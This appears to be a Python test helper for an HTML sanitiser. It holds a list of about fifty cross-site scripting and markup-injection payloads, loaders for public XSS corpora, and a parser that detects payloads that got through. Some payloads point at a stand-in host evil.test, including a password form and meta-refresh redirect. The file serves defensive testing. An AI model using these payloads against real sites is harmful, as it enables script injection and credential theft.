"""Attacks on whatever shows text, and a reading of HTML that finds those which got through.

The corpora are other people's data and not in this repository; without them the list below remains.
"""

import json
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

CORPORA = Path(__file__).parents[3] / "shared/data/hostile"

ATTACKS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<blockquote cite="a\n\nb onfocus=alert(1) autofocus tabindex=1">x</blockquote>',
    '<a title="a\n\nb onmouseover=alert(1) c" href="/x">x</a>',
    '<img alt="a\n\n<script>alert(1)</script>" src="/x">',
    "<p\nonclick=alert(1)\n>x</p>",
    '<img srcset="x 1x, javascript:alert(1) 2x" src="/x">',
    '<img src="/x" style="background:url(javascript:alert(1))">',
    '<p style="position:fixed;inset:0" class="evil" id="comments">x</p>',
    "<style>*{display:none}</style>",
    '<link rel=stylesheet href="//evil.test/x.css">',
    '<meta http-equiv=refresh content="0;url=//evil.test/">',
    '<base href="//evil.test/">',
    '<form action="//evil.test/"><input name=password><button>Go</button></form>',
    '<object data="javascript:alert(1)"></object><embed src="//evil.test/x.swf">',
    '<video src=x onerror=alert(1)><source onerror="alert(1)"></video>',
    "<details open ontoggle=alert(1)>x</details>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><img src=x onerror=alert(1)></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<pre><code class='language-\" onclick=alert(1) x=\"'>x</code></pre>",
    '<pre><code class="language-x evil k">x</code></pre>',
    '<h2 id="x" onclick=alert(1)><script>alert(1)</script>Title</h2>',
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
    '<td colspan="1e9" rowspan="-1"><table><tr><td colspan="99999">x</table>',
    '<ol start="javascript:1" type="x"><li value=1 onclick=alert(1)>x</ol>',
    "<img src=//evil.test/a.png><img src=https://evil.test/a.png>",
    "<img src='/\\evil.test/a.png'><img src='\\\\evil.test/a.png'><img src='/\t/evil.test/a.png'>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "{{ 7*7 }}{% debug %}${7*7}<%= 7*7 %>",
    "\u202e\u2066<script>alert(1)</script>",
]


def corpora() -> list[str]:
    """Return the attacks of the corpora beside the project; nothing where they are absent."""
    if not CORPORA.is_dir():
        return []
    found: list[str] = []
    for pair in sorted((CORPORA / "bleach-pairs").glob("*.test")):
        found.append(pair.read_text().partition("\n--\n")[0])
    vectors = (CORPORA / "html5sec-vectors.txt").read_text()
    found += vectors.split("//[\"'`-->]]>]</div>")
    found += [line for line in (CORPORA / "rsnake-xss.txt").read_text().splitlines() if line]
    found += json.loads((CORPORA / "naughty-strings.json").read_text())
    return found


def every_attack() -> list[str]:
    """Return all attacks, and each once more with line breaks where its spaces are."""
    once = ATTACKS + corpora()
    return once + [attack.replace(" ", "\n\n") for attack in once if "<" in attack]


def together(most: int) -> list[str]:
    """Return ATTACKS joined by spaces, as many as go into *most* characters: fewer pages show them all.

    A longer one stands alone, cut; NULs, which forms refuse, are left out.
    """
    texts: list[str] = []
    for attack in (attack.replace("\x00", "") for attack in ATTACKS):
        if texts and len(texts[-1]) + 1 + len(attack) <= most:
            texts[-1] += f" {attack}"
        else:
            texts.append(attack[:most])
    return texts


class Reading(HTMLParser):
    """Read HTML as a list of what a browser would act upon."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.found: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.found += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.tags.add("!--")

    def handle_decl(self, decl: str) -> None:
        self.tags.add("!")

    def unknown_decl(self, data: str) -> None:
        self.tags.add("![")

    def handle_pi(self, data: str) -> None:
        self.tags.add("?")

    @property
    def schemes(self) -> set[str]:
        """Return the schemes of every address; "" is a relative one."""
        addresses = (value for _tag, name, value in self.found if name in {"href", "src", "cite"})
        return {urlsplit("".join(address.split())).scheme for address in addresses}
